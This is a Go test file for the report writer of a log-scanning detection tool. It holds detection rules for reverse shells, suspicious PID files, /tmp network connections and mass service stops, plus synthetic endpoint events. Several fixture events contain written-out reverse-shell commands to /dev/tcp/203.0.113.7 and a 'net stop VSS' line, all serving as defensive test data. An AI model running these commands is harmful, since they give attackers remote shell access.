package report

import (
	"bytes"
	"flag"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"dredge/rules"
	"dredge/rules/match"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// checkGolden compares got with testdata/golden/name, byte for byte, or
// rewrites the file with -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report/ -update to write it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; got:\n%s\n(run go test ./report/ -update if the change is intended)", path, got)
	}
}

// Rules of the test result: an EQL rule with two hits, a new_terms rule with
// one, a sequence rule with one, a threshold rule with one, and a rule
// without a hit.
var (
	ruleShell = &rules.Rule{
		ID:          "a1b2c3d4-0001-4000-8000-000000000001",
		Name:        "Reverse Shell via Bash Redirection",
		Description: "Identifies a shell started with its standard streams redirected to a network socket,\nas attackers do to get an interactive shell back from a compromised host.",
		Note: "## Triage and analysis\n\n### Investigating reverse shells\n\n" +
			"A process whose input and output go to `/dev/tcp` is *almost always* malicious.\n\n" +
			"- Check the **parent process** and the user.\n" +
			"- Look up the remote address in [the threat intel platform](https://intel.example.org/lookup).\n" +
			"- See <https://attack.mitre.org/techniques/T1059/004/>.\n\n" +
			"![process tree](https://example.org/tree.png)\n\n" +
			"| Field | Meaning |\n|:--|--:|\n| process.args | the command line |\n",
		Type:      "eql",
		Language:  "eql",
		Query:     "process where event.type == \"start\" and\n  process.name : (\"bash\", \"sh\") and process.args : \"*/dev/tcp/*\"",
		Severity:  "high",
		RiskScore: 73,
		Index:     []string{"logs-endpoint.events.process-*", "endgame-*"},
		Tags:      []string{"Domain: Endpoint", "OS: Linux", "Tactic: Execution"},
		References: []string{
			"https://www.gnu.org/software/bash/manual/html_node/Redirections.html",
		},
		FalsePositive: []string{"Administrators testing connectivity with bash redirections."},
		Threat: []rules.Threat{
			{
				Framework: "MITRE ATT&CK",
				Tactic:    rules.Tactic{ID: "TA0002", Name: "Execution", Reference: "https://attack.mitre.org/tactics/TA0002/"},
				Techniques: []rules.Technique{{
					ID: "T1059", Name: "Command and Scripting Interpreter", Reference: "https://attack.mitre.org/techniques/T1059/",
					Subtechniques: []rules.Technique{{ID: "T1059.004", Name: "Unix Shell", Reference: "https://attack.mitre.org/techniques/T1059/004/"}},
				}},
			},
			{
				Framework: "MITRE ATT&CK",
				Tactic:    rules.Tactic{ID: "TA0011", Name: "Command and Control", Reference: "https://attack.mitre.org/tactics/TA0011/"},
				Techniques: []rules.Technique{{
					ID: "T1071", Name: "Application Layer Protocol", Reference: "https://attack.mitre.org/techniques/T1071/",
				}},
			},
		},
		Source: "builtin/reverse_shell.toml",
	}
	rulePID = &rules.Rule{
		ID:          "cd66a5af-e34b-4bb0-8931-57d0a043f2ef",
		Name:        "Abnormal Process ID or Lock File Created",
		Description: "Identifies the creation of a Process ID (PID), lock or reboot file in the /var/run directory.",
		Note:        "### Possible investigation steps\n\n1. Read the file's contents.\n2. Find the process that wrote it.\n",
		Type:        "new_terms",
		Language:    "kuery",
		Query:       "event.category:file and event.action:creation and file.extension:(pid or lock or reboot) and file.path:(/var/run/* or /run/*)",
		Severity:    "medium",
		RiskScore:   47,
		Index:       []string{"logs-endpoint.events.*"},
		Threat: []rules.Threat{{
			Framework: "MITRE ATT&CK",
			Tactic:    rules.Tactic{ID: "TA0002", Name: "Execution", Reference: "https://attack.mitre.org/tactics/TA0002/"},
			Techniques: []rules.Technique{{
				ID: "T1106", Name: "Native API", Reference: "https://attack.mitre.org/techniques/T1106/",
			}},
		}},
		NewTerms: &rules.NewTerms{Fields: []string{"process.executable", "file.path"}, HistoryWindowStart: "now-10d", History: 10 * 24 * time.Hour},
		Source:   "builtin/pid_file.toml",
	}
	ruleSeq = &rules.Rule{
		ID:          "a1b2c3d4-0004-4000-8000-000000000004",
		Name:        "Network Connection by a Process Started from /tmp",
		Description: "A program started from a world-writable folder connects out within a minute.",
		Type:        "eql",
		Language:    "eql",
		Query: "sequence by host.id, process.entity_id with maxspan=1m\n" +
			"  [process where event.type == \"start\" and process.executable : \"/tmp/*\"]\n" +
			"  [network where event.type == \"start\"]\n" +
			"  ![file where event.type == \"deletion\"]",
		Compiled:  &match.Query{Kind: match.Sequences},
		Severity:  "high",
		RiskScore: 73,
		Source:    "rules/netcon_from_tmp.toml",
	}
	ruleThreshold = &rules.Rule{
		ID:          "a1b2c3d4-0005-4000-8000-000000000005",
		Name:        "Many Services Stopped by One User",
		Description: "One user stops or kills many services or processes on a host, as ransomware does before it encrypts.",
		Type:        "threshold",
		Language:    "kuery",
		Query:       "event.category:process and event.type:start and process.name:(net.exe or sc.exe or taskkill.exe) and process.args:(stop or \"/F\")",
		Severity:    "medium",
		RiskScore:   47,
		Index:       []string{"logs-endpoint.events.process-*"},
		Threshold: &rules.Threshold{Fields: []string{"host.id", "user.name"}, Value: 10,
			Cardinality: []rules.Cardinality{{Field: "process.args", Value: 5}}},
		Source: "rules/impact_service_stops.toml",
	}
	ruleQuiet = &rules.Rule{
		ID:        "e3f4a5b6-0003-4000-8000-000000000003",
		Name:      "Kernel Module Load via insmod",
		Type:      "query",
		Language:  "kuery",
		Query:     "process.name:insmod and event.type:start",
		Severity:  "low",
		RiskScore: 21,
		Source:    "builtin/insmod.toml",
	}
)

func ptr(s string) *string { return &s }

func ms(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

// testResult is a small scan result that has every kind of thing a report
// shows.
func testResult() *Result {
	return &Result{
		Summary: Summary{
			Version: "0.1.0",
			Files: []FileStat{
				{Name: "dump/host-a/process.ndjson.gz", Bytes: 48213, Events: 1200,
					SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
				{Name: "dump/host-b/file.ndjson", Bytes: 2097152, Events: 3400,
					SHA256: "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752"},
				{Name: "dump/broken.ndjson.zst", Bytes: 5120, Events: 17}, // not read to its end: no SHA-256
			},
			PassedOver: []string{"dump/README.md"},
			// Sorted by name; "" holds the events without a host.name.
			Hosts: []HostStat{
				{Name: "", Events: 17},
				{Name: "db-02", First: ms("2024-05-01T09:58:02.5Z"), Last: ms("2024-05-01T10:14:40.001Z"), Events: 3400,
					Hits: SeverityCounts{Medium: 1}},
				{Name: "fs-01", First: ms("2024-05-01T10:07:03.5Z"), Last: ms("2024-05-01T10:09:41.002Z"), Events: 200,
					Hits: SeverityCounts{Medium: 1}},
				{Name: "web-01", First: ms("2024-05-01T10:00:00.123Z"), Last: ms("2024-05-01T10:05:12Z"), Events: 1000,
					Hits: SeverityCounts{High: 3}},
			},
			Timeline: []TimeCount{
				{Start: ms("2024-05-01T09:58:00Z"), Events: 100},
				{Start: ms("2024-05-01T10:00:00Z"), Events: 2100},
				{Start: ms("2024-05-01T10:02:00Z"), Events: 900},
				{Start: ms("2024-05-01T10:05:00Z"), Events: 800},
				{Start: ms("2024-05-01T10:07:00Z"), Events: 600},
				{Start: ms("2024-05-01T10:14:00Z"), Events: 100},
			},
			TimelineStep: time.Minute,
			Started:      ms("2024-05-02T08:30:00.25Z"),
			Duration:     2*time.Second + 500*time.Millisecond,
			Bytes:        2150485,
			Events:       4617,
			Rules: []RuleCount{
				{Rule: ruleShell, Hits: 2},
				{Rule: rulePID, Hits: 1},
				{Rule: ruleSeq, Hits: 1},
				{Rule: ruleThreshold, Hits: 1},
				{Rule: ruleQuiet, Hits: 0},
			},
			RuleSet: RuleSet{
				Builtin: 2, Folders: []string{"rules/", "/cases/4711/rules"}, FromFolders: 4,
				Deprecated: 3, Unsupported: 2, Errors: 1, Filter: `--min-severity low --tag "OS: Linux"`, Filtered: 1,
			},
			Hits: 5,
			Problems: []Problem{
				{File: "dump/broken.ndjson.zst", Line: 18, Kind: "decompress", Reason: "zstd: corrupt block; the rest of the file was not read"},
				{File: "dump/host-b/file.ndjson", Line: 77, Kind: "malformed", Reason: "invalid character '}' looking for beginning of object key string"},
			},
			Skipped:  map[string]int{"malformed JSON": 1, "line longer than 16 MiB": 2},
			Complete: false,
			First:    ms("2024-05-01T09:58:02.5Z"),
			Last:     ms("2024-05-01T12:14:40.001+02:00"),
		},
		Hits: []Hit{
			{
				Rule:   ruleShell,
				Time:   ms("2024-05-01T10:00:00.123Z"),
				Origin: Origin{File: "dump/host-a/process.ndjson.gz", Line: 12},
				Index:  "logs-endpoint.events.process-default",
				Document: []byte(`{"@timestamp":"2024-05-01T10:00:00.123Z","event":{"category":["process"],"type":["start"]},` +
					`"host":{"name":"web-01"},"user":{"name":"www-data"},` +
					`"process":{"name":"bash","executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],"pid":4242}}`),
				Fields: Fields{Host: "web-01", User: "www-data", Process: "/usr/bin/bash"},
			},
			{
				Rule:   rulePID,
				Time:   ms("2024-05-01T10:02:30Z"),
				Origin: Origin{File: "dump/host-b/file.ndjson", Line: 3},
				Document: []byte(`{"@timestamp":"2024-05-01T10:02:30Z","event":{"category":["file"],"action":"creation"},` +
					`"host":{"name":"db-02"},"user":{"name":"root"},"process":{"executable":"/tmp/.x/kworker"},` +
					`"file":{"path":"/var/run/=cmd.pid","extension":"pid"}}`),
				Fields:   Fields{Host: "db-02", User: "root", Process: "/tmp/.x/kworker", File: "/var/run/=cmd.pid"},
				NewTerms: []string{"/tmp/.x/kworker", "/var/run/=cmd.pid"},
			},
			{
				Rule:   ruleSeq,
				Time:   ms("2024-05-01T10:05:00.250Z"),
				Origin: Origin{File: "dump/host-a/process.ndjson.gz", Line: 40},
				Document: []byte(`{"@timestamp":"2024-05-01T10:05:00.250Z","event":{"category":["process"],"type":["start"]},` +
					`"host":{"id":"h-01","name":"web-01"},"process":{"entity_id":"p-77","executable":"/tmp/.x/kworker"}}`),
				Fields: Fields{Host: "web-01", Process: "/tmp/.x/kworker"},
				Events: []Event{
					{
						Time: ms("2024-05-01T10:05:00.250Z"), Origin: Origin{File: "dump/host-a/process.ndjson.gz", Line: 40},
						Document: []byte(`{"@timestamp":"2024-05-01T10:05:00.250Z","event":{"category":["process"],"type":["start"]},` +
							`"host":{"id":"h-01","name":"web-01"},"process":{"entity_id":"p-77","executable":"/tmp/.x/kworker"}}`),
					},
					{
						Time: ms("2024-05-01T10:05:12Z"), Origin: Origin{File: "dump/host-a/network.ndjson", Line: 7},
						Index: "logs-endpoint.events.network-default",
						Document: []byte(`{"@timestamp":"2024-05-01T10:05:12Z","event":{"category":["network"],"type":["start"]},` +
							`"host":{"id":"h-01","name":"web-01"},"process":{"entity_id":"p-77"},"destination":{"ip":"203.0.113.7","port":4444}}`),
					},
					{Missing: true},
				},
				JoinKeys: []*string{ptr("h-01"), ptr("p-77")},
			},
			{
				Rule:   ruleThreshold,
				Time:   ms("2024-05-01T10:07:03.5Z"),
				Origin: Origin{File: "dump/host-c/process.ndjson", Line: 220},
				Index:  "logs-endpoint.events.process-default",
				Document: []byte(`{"@timestamp":"2024-05-01T10:07:03.500Z","event":{"category":["process"],"type":["start"]},` +
					`"host":{"id":"h-03","name":"fs-01"},"user":{"name":"adm-x","domain":"CORP"},` +
					`"process":{"name":"net.exe","executable":"C:\\Windows\\System32\\net.exe","args":["net","stop","VSS","/y"]}}`),
				Fields: Fields{Host: "fs-01", User: `CORP\adm-x`, Process: `C:\Windows\System32\net.exe`},
				Threshold: &ThresholdResult{
					Terms: []ThresholdTerm{{Field: "host.id", Value: "h-03"}, {Field: "user.name", Value: "adm-x"}},
					Count: 14, First: ms("2024-05-01T10:07:03.5Z"), Last: ms("2024-05-01T10:09:41.002Z"),
					Cardinality: []ThresholdCardinality{{Field: "process.args", Value: 9}},
				},
			},
			{
				Rule:   ruleShell,
				Origin: Origin{File: "dump/host-a/process.ndjson.gz", Line: 981},
				Document: []byte(`{"host":{"hostname":"web-01"},"user":{"name":"svc-backup","domain":"CORP"},` +
					`"process":{"name":"-bash","args":["-bash","-c","sh -i >& /dev/tcp/203.0.113.7/443 0>&1"]}}`),
				Fields: Fields{Host: "web-01", User: `CORP\svc-backup`, Process: "-bash"},
			},
		},
	}
}

// benchResult is a result of n hits on realistic Elastic Endpoint process
// events of about 1.5 KB.
func benchResult(n int) (*Result, int64) {
	res := testResult()
	res.Hits = res.Hits[:0]
	var size int64
	for i := range n {
		doc := []byte(`{"@timestamp":"2024-05-01T10:00:00.123Z","agent":{"id":"8a2d6e1c-4f1b-4c5e-9d3a-2b7f0e6c1a90","type":"endpoint","version":"8.13.2"},` +
			`"data_stream":{"dataset":"endpoint.events.process","namespace":"default","type":"logs"},"ecs":{"version":"8.10.0"},` +
			`"event":{"action":"exec","category":["process"],"created":"2024-05-01T10:00:00.123Z","dataset":"endpoint.events.process","id":"NzYxNjQ0","kind":"event","module":"endpoint","type":["start"]},` +
			`"host":{"architecture":"x86_64","hostname":"web-01","id":"0f3c0d2c6a6b4b7e8f9a1b2c3d4e5f60","ip":["10.0.4.21","fe80::250:56ff:fe8a:1b2c"],"name":"web-01","os":{"family":"debian","kernel":"5.15.0-105-generic","name":"Linux","platform":"ubuntu","type":"linux","version":"22.04.4"}},` +
			`"process":{"args":["bash","-c","bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],"args_count":3,"command_line":"bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1","entity_id":"ZjNjMGQyYzYtNmE2Yi00Yjdl","executable":"/usr/bin/bash","hash":{"md5":"7063c3930affe123baecd3b340f1ad2c","sha256":"59474588a312b6b6e73e5a42a59bf71e62b55416b6c9d5e4a6e1c6f3b2a1d0e9"},"name":"bash","pid":4242,` +
			`"parent":{"args":["php-fpm: pool www"],"entity_id":"YTFiMmMzZDQtZTVmNi00YTdi","executable":"/usr/sbin/php-fpm8.1","name":"php-fpm8.1","pid":1187},"working_directory":"/var/www/html"},` +
			`"user":{"id":"33","name":"www-data","group":{"id":"33","name":"www-data"}}}`)
		size += int64(len(doc))
		res.Hits = append(res.Hits, Hit{
			Rule: ruleShell, Time: ms("2024-05-01T10:00:00.123Z").Add(time.Duration(i) * time.Second),
			Origin: Origin{File: "dump/host-a/process.ndjson.gz", Line: i + 1}, Index: "logs-endpoint.events.process-default",
			Document: doc, Fields: Fields{Host: "web-01", User: "www-data", Process: "/usr/bin/bash"},
		})
	}
	return res, size
}

// BenchmarkWrite measures each writer; the bytes are those of the events.
func BenchmarkWrite(b *testing.B) {
	res, size := benchResult(1000)
	for _, format := range []string{FormatCSV, FormatJSON, FormatNDJSON, FormatHTML, FormatTimesketch, FormatECS} {
		b.Run(format, func(b *testing.B) {
			b.SetBytes(size)
			b.ReportAllocs()
			for b.Loop() {
				if err := Write(io.Discard, format, res); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func TestRuleSetText(t *testing.T) {
	tests := []struct {
		name string
		rs   RuleSet
		want string
	}{
		{"zero", RuleSet{}, ""},
		{"built-in only", RuleSet{Builtin: 5}, "5 built-in"},
		{"folders only", RuleSet{Folders: []string{"a", "b/"}, FromFolders: 7, Deprecated: 1, Unsupported: 2},
			"7 from a, b/ (skipped 1 deprecated, 2 unsupported, 0 with errors)"},
		{"both, filtered", RuleSet{Builtin: 5, Folders: []string{"rules"}, FromFolders: 1, Errors: 1, Filter: "--min-severity high", Filtered: 4},
			"5 built-in, 1 from rules (skipped 0 deprecated, 0 unsupported, 1 with errors); 4 left out by --min-severity high"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.rs.Text(); got != tt.want {
				t.Errorf("Text() = %q, want %q", got, tt.want)
			}
		})
	}
}
